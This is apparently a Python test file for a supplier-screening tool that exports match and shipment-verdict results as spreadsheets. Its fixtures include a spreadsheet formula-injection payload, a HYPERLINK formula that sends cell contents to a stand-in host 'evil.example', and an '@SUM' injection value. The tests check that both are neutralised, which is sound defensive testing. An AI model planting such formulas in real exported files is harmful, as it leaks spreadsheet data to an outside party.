"""Match and screen results as spreadsheets: one row per supplier or shipment, with
the evidence columns analysts filter on, and formula-leading cells neutralised."""

from __future__ import annotations

import io
from pathlib import Path
from typing import Any

from fastapi.testclient import TestClient
from openpyxl import load_workbook
from typer.testing import CliRunner

from flscreen.cli.main import app
from flscreen.reports.tabular import MEDIA_TYPES

SAMPLE = Path(__file__).resolve().parents[2] / "src" / "flscreen" / "resources" / "sample"
runner = CliRunner()
SUPPLIERS = (
    "id,name,country\n"
    "S1,XINJIANG ZHONGTAI CHEMICAL CO LTD,cn\n"
    'S2,"=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",cn\n'
    "S3,Hoshine Silicon Industry Co Ltd,cn\n"
)


def sheet_rows(body: bytes) -> list[dict[str, Any]]:
    ws = load_workbook(io.BytesIO(body), read_only=True).active
    assert ws is not None
    header, *rows = list(ws.iter_rows(values_only=True))
    return [dict(zip(header, r, strict=True)) for r in rows]


def import_uflpa() -> None:
    done = runner.invoke(
        app,
        ["lists", "import", str(SAMPLE / "lists" / "uflpa_entity_list.html"), "--list", "uflpa"],
    )
    assert done.exit_code == 0, done.output


def test_match_writes_one_row_per_supplier(cli_env: dict[str, str], tmp_path: Path) -> None:
    import_uflpa()
    suppliers = tmp_path / "suppliers.csv"
    suppliers.write_text(SUPPLIERS, encoding="utf-8")
    out = tmp_path / "matches.xlsx"
    result = runner.invoke(app, ["match", str(suppliers), "--format", "xlsx", "--output", str(out)])
    assert result.exit_code == 0, result.output
    rows = {r["id"]: r for r in sheet_rows(out.read_bytes())}
    assert list(rows) == ["S1", "S2", "S3"]
    assert rows["S1"]["status"] == "match" and rows["S1"]["list"] == "uflpa"
    assert rows["S1"]["list_version"] == 1 and rows["S1"]["score"] >= 0.8
    assert "name_" in rows["S1"]["why"]
    assert rows["S2"]["status"] == "clear"
    assert rows["S2"]["name"].startswith("'=HYPERLINK(")
    assert rows["S3"]["entry_name"] == "Hoshine Silicon Industry (Shanshan) Co., Ltd"
    refused = runner.invoke(
        app, ["match", str(suppliers), "--format", "ods", "-o", str(tmp_path / "x")]
    )
    assert refused.exit_code == 2 and "unknown format 'ods'" in refused.output


def test_screen_writes_one_row_per_shipment(cli_env: dict[str, str], tmp_path: Path) -> None:
    import_uflpa()
    out = tmp_path / "verdicts.csv"
    result = runner.invoke(
        app, ["screen", str(SAMPLE / "supply"), "--format", "csv", "-o", str(out), "--actor", "ana"]
    )
    assert result.exit_code == 0, result.output
    import csv

    rows = {
        r["shipment"]: r for r in csv.DictReader(io.StringIO(out.read_text(encoding="utf-8-sig")))
    }
    assert len(rows) == 7
    assert rows["S-2001"]["verdict"] == "detain"
    assert rows["S-2001"]["first_reason"] and "uflpa v1" in rows["S-2001"]["list_versions"]
    assert rows["S-2001"]["case"].startswith("CASE-")


def test_api_match_answers_a_spreadsheet(listed: TestClient) -> None:
    body = {
        "records": [
            {"id": "a", "name": "Xinjiang Zhongtai Chemical"},
            {"id": "b", "name": "@SUM(1+1)"},
        ]
    }
    resp = listed.post("/match", json=body, headers={"Accept": MEDIA_TYPES["xlsx"]})
    assert resp.status_code == 200
    assert resp.headers["content-type"] == MEDIA_TYPES["xlsx"]
    assert resp.headers["content-disposition"] == 'attachment; filename="matches.xlsx"'
    rows = sheet_rows(resp.content)
    assert [r["id"] for r in rows] == ["a", "b"]
    assert rows[0]["status"] == "match" and rows[1]["name"] == "'@SUM(1+1)"
    as_csv = listed.post("/match", json=body, headers={"Accept": "text/csv"})
    assert as_csv.content.decode("utf-8-sig").splitlines()[0].startswith("id,name,country")
